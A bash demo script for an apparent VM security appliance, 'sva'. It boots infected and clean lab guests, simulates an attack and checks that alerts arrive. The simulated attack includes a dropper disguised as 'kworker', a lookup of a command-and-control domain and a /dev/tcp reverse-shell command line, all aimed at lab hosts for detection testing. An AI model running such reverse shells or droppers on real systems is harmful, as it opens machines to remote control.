#!/usr/bin/env bash
# The main job, end to end on the built-in lab: set up sva, boot an infected and a clean
# lab guest, start the appliance daemon (`sva run`) with a generated config and keys, run
# a short attack script inside the infected guest (memory and network), show the alerts
# arriving on an authenticated subscriber (`sva alerts tail`), then clean up.
set -euo pipefail
cd "$(dirname "$0")/.."
bash scripts/setup.sh
export PATH="$PWD/.venv/bin:$PATH"

INF=${SVA_DEMO_INFECTED:-demo-web}
CLEAN=${SVA_DEMO_CLEAN:-demo-db}
OUT=${SVA_DEMO_OUT:-/tmp/sva-demo}
WATCH_S=${SVA_DEMO_SECONDS:-45}
BUS_PORT=${SVA_DEMO_BUS_PORT:-17755}
METRICS_PORT=${SVA_DEMO_METRICS_PORT:-19108}
rm -rf "$OUT" && mkdir -p "$OUT"

DAEMON=""
TAIL=""
cleanup() {
  [ -n "$TAIL" ] && kill "$TAIL" 2>/dev/null || true
  if [ -n "$DAEMON" ] && kill -0 "$DAEMON" 2>/dev/null; then
    kill -TERM "$DAEMON" 2>/dev/null || true
    wait "$DAEMON" 2>/dev/null || true
  fi
  sva lab down "$INF" >/dev/null 2>&1 || true
  sva lab down "$CLEAN" >/dev/null 2>&1 || true
}
trap cleanup EXIT
sva lab down "$INF" >/dev/null 2>&1 || true
sva lab down "$CLEAN" >/dev/null 2>&1 || true

echo "== booting lab guests: '$INF' (infected scenario) and '$CLEAN' (clean)"
sva lab up "$INF" --scenario infected &
up1=$!
sva lab up "$CLEAN" --scenario clean
wait "$up1"

echo "== what the infected guest says about itself (its own ps, via the serial console)"
sva lab ps "$INF"

echo "== CurveZMQ keys for the alert bus: the daemon's server key and one subscriber's key"
sva keys gen --dir "$OUT/keys" --client demo >/dev/null

cat >"$OUT/sva.toml" <<EOF
[appliance]
name = "sva-demo"
management_address = "127.0.0.1"
log_format = "text"

[bus]
endpoint = "tcp://127.0.0.1:$BUS_PORT"
replay_endpoint = "tcp://127.0.0.1:$((BUS_PORT + 1))"
journal = "$OUT/journal"
keys_dir = "$OUT/keys"

[signatures]
state_dir = "$OUT/sigs"

[defaults]
interval = 2.0
cpu_budget = 0.5

[[targets]]
uri = "lab:$INF"

[[targets]]
uri = "lab:$CLEAN"

[[network]]
source = "lab:$INF"
inventory = ["lab:$INF"]

[metrics]
port = $METRICS_PORT
EOF
echo "== the generated config ($OUT/sva.toml)"
sva run --config "$OUT/sva.toml" --check

echo "== starting the daemon: sva run --config $OUT/sva.toml (log: $OUT/daemon.log)"
sva run --config "$OUT/sva.toml" >"$OUT/daemon.log" 2>&1 &
DAEMON=$!

echo "== subscribing: sva alerts tail (authenticated with the 'demo' client key; output: $OUT/alerts.txt)"
sva alerts tail --endpoint "tcp://127.0.0.1:$BUS_PORT" --dir "$OUT/keys" --client demo --since 0 \
  --topic sva.alert. --color never --timeout "$((WATCH_S + 30))" >"$OUT/alerts.txt" 2>&1 &
TAIL=$!

sleep 10
echo "== attack script inside '$INF' (the guest is attacked; sva only watches from outside)"
echo "   1. a dropper writes a program to /tmp and starts it under a kernel-thread-like name"
sva lab exec "$INF" -- 'printf "#!/bin/sh\\nsleep 600\\n" >/tmp/kworker && chmod +x /tmp/kworker && (/tmp/kworker >/dev/null 2>&1 &)' || true
echo "   2. a DNS lookup of a command-and-control domain on the IOC list"
sva lab exec "$INF" -- 'nslookup beacon.sva-c2.example 10.0.2.3 >/dev/null 2>&1; true' || true
echo "   3. a process whose command line carries a /dev/tcp reverse shell"
sva lab exec "$INF" -- '(sh -c "sleep 600; bash -i >& /dev/tcp/10.0.2.100/4444 0>&1" >/dev/null 2>&1 &)' || true

echo "== letting the daemon watch for ${WATCH_S}s"
sleep "$WATCH_S"

echo "== metrics (http://127.0.0.1:$METRICS_PORT/metrics), a few series"
python3 - "$METRICS_PORT" <<'EOF'
import sys, urllib.request
text = urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/metrics", timeout=5).read().decode()
for line in text.splitlines():
    if line.startswith(("sva_vm_cycles_total", "sva_vm_findings_total", "sva_vm_last_pause_seconds",
                        "sva_bus_latest_seq", "sva_net_packets_total", "sva_net_findings_total")):
        print("  ", line)
EOF

echo "== stopping the daemon (SIGTERM: guests resumed, journal closed cleanly)"
kill -TERM "$DAEMON"
wait "$DAEMON" || true
DAEMON=""
kill "$TAIL" 2>/dev/null || true
wait "$TAIL" 2>/dev/null || true
TAIL=""

echo "== alerts received by the subscriber"
cat "$OUT/alerts.txt"
alerts_inf=$(grep -c "^   vm  *$INF\b" "$OUT/alerts.txt" || true)
alerts_clean=$(grep -c "^   vm  *$CLEAN\b" "$OUT/alerts.txt" || true)
echo "== summary: $alerts_inf alert(s) about '$INF', $alerts_clean about '$CLEAN' (the clean guest should have none)"
if [ "$alerts_inf" -eq 0 ]; then
  echo "demo: no alert about the infected guest arrived; see $OUT/daemon.log" >&2
  exit 1
fi
echo "== done; config, keys, journal, daemon log and alerts are in $OUT"
